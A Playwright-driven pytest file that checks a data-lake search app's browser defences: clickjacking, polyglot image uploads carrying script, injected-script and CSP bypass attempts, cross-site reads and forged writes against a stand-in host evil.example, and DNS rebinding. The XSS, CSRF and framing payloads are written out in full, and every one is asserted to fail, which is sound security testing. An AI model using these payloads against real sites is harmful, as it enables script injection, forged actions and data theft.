"""What another site's page, and a file that somebody uploaded, can do in the browser of a user: nothing.

In a real Chromium, against a real server that is open to all and one that requires keys. The foreign pages have an
address of another site, and one of the same host with another port, to which cookies of this host are sent.
"""

from __future__ import annotations

import io
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING

import httpx
import pytest
from PIL import Image

from lake import open_lake, slices
from lake.access import keys
from lake.open_lake import OpenLake
from tests.lake import stock
from tests.search_app.browsing import MISSING, serving

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page, Route

pytestmark = pytest.mark.skipif(bool(MISSING), reason=f"needs {', '.join(MISSING)}")

SCRIPT = "<script>window.taken = 1; parent.postMessage('taken', '*')</script>"
OTHER_SITE, OTHER_PORT = "http://evil.example", "http://127.0.0.1:9"
PAGES = ("/", "/overview", "/search", "/drilldown", "/isolate", "/map", "/slices", "/sql", "/analyse", "/models")


@dataclass
class Target:
    """A server, and ids of images in its lake."""

    url: str
    lake: OpenLake
    images: list[str]
    token: str = ""

    def written(self) -> dict[str, int]:
        return {name: self.lake.version(name) for name in ("slices", "labels", "reviews", "samples", "audit", "jobs")}


def polyglots() -> dict[str, bytes]:
    """Pictures that are documents from some byte on, and documents that say that they are pictures."""
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF", comment=f"*/{SCRIPT}".encode())
    png = io.BytesIO()
    Image.new("RGB", (8, 8)).save(png, "PNG")
    return {
        "gif": out.getvalue() + SCRIPT.encode(),
        "png": png.getvalue() + f"<html><body>{SCRIPT}".encode(),
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode(),
        "html": f"<!doctype html>{SCRIPT}".encode(),
    }


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """A server that is open to all, takes events, and has the pictures of `polyglots` that it accepted."""
    lake = open_lake.create(str(tmp_path_factory.mktemp("foreign") / "lake"))
    stock.add(lake, range(1))
    slices.create(lake, "kept", ids=[stock.image_id(0)])
    with serving(lake.uri, takes_events=True) as url:
        ids, refused = [], []
        for kind, data in polyglots().items():
            answer = httpx.post(f"{url}/v1/images", content=data, headers={"Content-Type": f"image/{kind}"}, timeout=60)
            if answer.is_success:
                ids.append(answer.json()["image_id"])
            else:
                refused.append(kind)
        assert (len(ids), refused) == (2, ["svg", "html"])
        yield Target(url, lake, ids)


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    lake = open_lake.create(str(tmp_path_factory.mktemp("guarded") / "lake"))
    stock.add(lake, range(1))
    slices.create(lake, "kept", ids=[stock.image_id(0)])
    _, token = keys.create(lake, None, ["admin"])
    with serving(lake.uri, require_key=True) as url:
        yield Target(url, lake, [], token)


@pytest.fixture
def foreign(context: BrowserContext) -> Iterator[Page]:
    """A page whose documents of other sites are what a test gives them; see `show`."""
    opened = context.new_page()
    yield opened
    opened.close()


def show(page: Page, site: str, html: str) -> None:
    """Opens a document of that site; its /own is a document, too. Nothing is asked of the network for them."""

    def fulfil(route: Route) -> None:
        own = route.request.url.endswith("/own")
        route.fulfill(
            body="<p>own</p>" if own else f"<!doctype html><title>foreign</title>{html}", content_type="text/html"
        )

    page.unroute_all()
    page.route(f"{site}/**", fulfil)
    page.goto(f"{site}/")


@pytest.mark.parametrize("site", [OTHER_SITE, OTHER_PORT])
def test_no_document_can_be_framed(foreign: Page, target: Target, site: str) -> None:
    """Neither by another site, nor within its documents without an address: srcdoc and data:."""
    image = f"/v1/images/{target.images[0]}"
    paths = [*PAGES, "/login", "/static/index.html", "/healthz", "/metrics", "/v1/status", "/v1/nothing",
             "/v1/openapi.json", image, f"{image}?view=1", f"/v1/thumbnails/{stock.image_id(0)}"]  # fmt: skip
    urls = [target.url + path for path in paths]
    inner = "".join(f"<iframe src={url}></iframe>" for url in urls[:2])
    framed = "".join(f"<iframe src='{url}'></iframe>" for url in urls)
    framed += f'<iframe srcdoc="{inner}"></iframe><iframe src="data:text/html,{inner}"></iframe>'
    framed += "".join(f"<object data='{url}'></object><embed src='{url}'>" for url in urls[:2])
    show(foreign, site, f"{framed}<iframe src='{site}/own'></iframe>")
    shown = [frame.url for frame in foreign.frames]
    assert [url for url in shown if url.startswith(target.url)] == []
    assert shown.count("chrome-error://chromewebdata/") >= len(paths) + 4
    assert f"{site}/own" in shown  # a document that can be framed is seen


def test_no_uploaded_picture_is_a_document_or_a_script(foreign: Page, target: Target) -> None:
    posted: list[str] = []
    foreign.on("console", lambda message: posted.append(message.text))
    for image_id in target.images:
        for view in ("", "?view=1"):
            answer = foreign.goto(f"{target.url}/v1/images/{image_id}{view}")
            assert answer is not None
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert foreign.evaluate("document.contentType").startswith("image/")
            assert foreign.evaluate("window.taken") is None
    foreign.goto(f"{target.url}/slices")
    outcomes = foreign.evaluate(
        """async (paths) => {
            const settled = (element) => new Promise((done) => {
                element.onload = () => done("loaded"); element.onerror = () => done("refused"); });
            const outcomes = [];
            for (const path of paths) {
                const script = document.createElement("script");
                const link = document.createElement("link");
                const frame = document.createElement("iframe");
                script.src = link.href = frame.src = path; link.rel = "stylesheet";
                for (const element of [script, link]) {
                    const outcome = settled(element);
                    document.head.append(element);
                    outcomes.push(await outcome);
                }
                document.body.append(frame);
                const worker = new Worker(path);
                outcomes.push(await settled(worker));
                outcomes.push(await navigator.serviceWorker.register(path).then(() => "loaded", () => "refused"));
            }
            return outcomes;
        }""",
        [f"/v1/images/{image_id}" for image_id in target.images],
    )
    assert outcomes == ["refused"] * 4 * len(target.images)
    assert foreign.evaluate("window.taken") is None


# What a text that became markup, or a component that went wrong, could try within a page.
ATTEMPTS = """async (other) => {
  const add = (name, attributes, text = "") => {
    const element = Object.assign(document.createElement(name), attributes);
    element.append(text); document.body.append(element); return element; };
  const violations = new Set();
  document.addEventListener("securitypolicyviolation", (event) => violations.add(event.effectiveDirective));
  const late = (code) => new Promise((done) => setTimeout(() => {
    try { code(); done("ran"); } catch { done("threw"); } }));
  add("script", {}, "window.taken = 'inline'");
  add("script", { src: other + "/x.js" });
  add("script", { src: "data:text/javascript,window.taken='data'" });
  add("div", { innerHTML: "<img src=x onerror=window.taken=1>" });
  add("a", { href: "javascript:window.taken='link'" }).click();
  add("img", { src: other + "/x.png" });
  add("iframe", { src: other });
  add("iframe", { srcdoc: "<script>parent.taken='srcdoc'</script>" });
  add("object", { data: other });
  add("base", { href: other });
  add("link", { rel: "stylesheet", href: other + "/x.css" });
  add("video", { src: other + "/x.mp4" });
  add("form", { action: other, method: "post" }).submit();
  new FontFace("x", `url(${other}/x.woff)`).load().catch(() => {});
  const evaluated = [
    await late(() => { window.taken = eval("'eval'"); }),
    await late(() => { window.taken = new Function("return 'function'")(); }),
    await late(() => { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); }),
  ];
  const asked = [
    await fetch(other).then(() => "reached", () => "refused"),
    await import("data:text/javascript,window.taken='import'").then(() => "ran", () => "refused"),
    await new Promise((done) => { try { const socket = new WebSocket(other.replace("http", "ws"));
      socket.onopen = () => done("reached"); socket.onerror = () => done("refused"); } catch { done("refused"); } }),
    await new Promise((done) => { try { const worker = new Worker("data:text/javascript,postMessage(1)");
      worker.onmessage = () => done("ran"); worker.onerror = () => done("refused"); } catch { done("refused"); } }),
  ];
  await new Promise((done) => setTimeout(done, 200));
  return { evaluated, asked, violations: [...violations].sort(), taken: window.taken ?? null, base: document.baseURI };
}"""


def test_nothing_that_is_put_into_a_page_runs_or_reaches_another_host(foreign: Page, target: Target) -> None:
    reached: list[str] = []

    def answer(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(body="", headers={"Access-Control-Allow-Origin": "*"})

    foreign.unroute_all()
    foreign.route(f"{OTHER_SITE}/**", answer)
    foreign.goto(f"{target.url}/slices")
    foreign.locator(".stApp").wait_for()
    result = foreign.evaluate(ATTEMPTS, OTHER_SITE)
    assert result["taken"] is None
    assert result["evaluated"] == ["threw", "threw", "threw"]
    assert result["asked"] == ["refused"] * 4
    assert result["base"].startswith(target.url)
    assert set(result["violations"]) >= {
        "script-src-elem", "script-src-attr", "script-src", "img-src", "frame-src", "object-src", "base-uri",
        "style-src-elem", "media-src", "form-action", "font-src", "connect-src",
    }  # fmt: skip
    assert reached == []
    assert foreign.url.startswith(target.url)


# What a foreign page can send without being asked first, and what it may hope to read.
REQUESTS = """async ({ url, image }) => {
  const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(() => done("nothing"), 5000))]);
  const settled = (element) => within(new Promise((done) => {
    element.onload = () => done("loaded"); element.onerror = () => done("refused"); document.head.append(element); }));
  const outcomes = {};
  const reads = ["/v1/status", "/v1/openapi.json", "/metrics", "/healthz", "/_stcore/host-config",
    `/v1/images/${image}`];
  for (const path of reads)
    for (const credentials of ["include", "omit"])
      outcomes[`read ${path} ${credentials}`] = await within(
        fetch(url + path, { credentials }).then((answer) => answer.text(), () => "refused"));
  for (const [name, source] of [["img", image], ["thumbnail", image]]) {
    const picture = new Image();
    picture.src = `${url}/v1/${name === "img" ? "images" : "thumbnails"}/${source}`;
    outcomes[name] = await settled(picture);
  }
  outcomes.script = await settled(Object.assign(document.createElement("script"), { src: url + "/v1/status" }));
  const write = (path, method, body, type) => within(fetch(url + path, {
    method, body, mode: type ? "cors" : "no-cors", credentials: "include",
    headers: type ? { "content-type": type } : {} }).then((answer) => answer.type, () => "refused"));
  const slice = JSON.stringify({ name: "taken", definition: { where: "true" } });
  for (const [path, body] of [["/v1/slices", slice], ["/v1/sql", '{"sql": "SELECT 1"}'], ["/v1/images", "GIF89a"],
    ["/v1/predictions", "{}"], ["/v1/feedback", "{}"], ["/v1/jobs", '{"kind": "maintain"}'], ["/logout", ""]])
    for (const type of ["", "application/json"])
      outcomes[`write ${path} ${type}`] = await write(path, "POST", body, type);
  outcomes.delete = await write("/v1/slices/kept@1", "DELETE", undefined, "application/json");
  outcomes.beacon = navigator.sendBeacon(url + "/v1/slices", slice) ? "queued" : "refused";
  outcomes.socket = await within(new Promise((done) => {
    const socket = new WebSocket(url.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
    socket.onopen = () => done("open"); socket.onerror = () => done("refused"); }));
  outcomes.events = await within(new Promise((done) => {
    const source = new EventSource(url + "/v1/jobs/x/events", { withCredentials: true });
    source.onopen = () => done("open"); source.onerror = () => { source.close(); done("refused"); }; }));
  const form = Object.assign(document.createElement("form"), {
    action: url + "/v1/slices", method: "post", enctype: "text/plain", target: "_blank" });
  form.append(Object.assign(document.createElement("input"), { name: slice.slice(0, -1) + ',"x":"', value: '"}' }));
  document.head.append(form);
  form.submit();
  await new Promise((done) => setTimeout(done, 300));
  return outcomes;
}"""


def check_requests(foreign: Page, target: Target, site: str, image: str) -> None:
    """What a page of that site gets and does."""
    statuses: list[tuple[str, int]] = []
    foreign.context.on("response", lambda answer: statuses.append((answer.request.method, answer.status)))
    before = target.written()
    show(foreign, site, "")
    outcomes: dict[str, str] = foreign.evaluate(REQUESTS, {"url": target.url, "image": image})
    assert "open" not in outcomes.values()
    assert "loaded" not in outcomes.values()
    reads = {name: outcome for name, outcome in outcomes.items() if name.startswith("read")}
    assert set(reads.values()) == {"refused"}, reads
    writes = {name: outcome for name, outcome in outcomes.items() if name.startswith("write")}
    assert set(writes.values()) <= {"opaque", "refused"}, writes
    asked = {status for method, status in statuses if method not in ("GET", "HEAD")}
    assert asked
    assert asked <= {401, 403}, statuses
    assert target.written() == before
    assert [slice_["name"] for slice_ in target.lake.scan("slices", ["name"]).to_pylist()] == ["kept"]


@pytest.mark.parametrize("site", [OTHER_SITE, OTHER_PORT])
def test_another_site_s_page_neither_reads_nor_writes(foreign: Page, target: Target, site: str) -> None:
    check_requests(foreign, target, site, target.images[0])


def test_a_login_is_of_no_use_to_a_page_of_the_same_host(foreign: Page, guarded: Target) -> None:
    """Another port is the same site, so the browser sends the cookie along."""
    foreign.goto(f"{guarded.url}/slices")
    foreign.get_by_label("Access key").fill(guarded.token)
    foreign.get_by_role("button", name="Log in").click()
    foreign.locator(".stApp").wait_for()
    cookies = {cookie["name"].partition("_")[0]: cookie for cookie in foreign.context.cookies(guarded.url)}
    session = cookies["lakeloop"]
    assert (session["httpOnly"], session["sameSite"], session["path"]) == (True, "Strict", "/")
    others = {cookie["name"] for cookie in foreign.context.cookies(guarded.url)} - {session["name"]}
    assert others <= {"_streamlit_xsrf"}  # a token against forged requests, which Streamlit's scripts read
    assert "lakeloop" not in foreign.evaluate("document.cookie")
    for site in (OTHER_PORT, OTHER_SITE):
        check_requests(foreign, guarded, site, stock.image_id(0))
    answer = foreign.goto(f"{guarded.url}/v1/status")
    assert answer is not None
    assert answer.status == 200  # nobody has logged it out
    foreign.goto(f"{guarded.url}/logout")
    foreign.get_by_role("button", name="Log out").click()
    foreign.get_by_label("Access key").wait_for()


def test_a_name_that_leads_to_this_machine_is_not_the_server_s(foreign: Page, target: Target) -> None:
    """As after DNS rebinding: the address is right, the name in the address bar is the attacker's."""
    port = target.url.rpartition(":")[2]
    answer = foreign.goto(f"http://evil.localhost:{port}/v1/status")
    assert answer is not None
    assert answer.status == 403
    assert "does not answer to the name" in foreign.content()
    assert "samples" not in foreign.content()
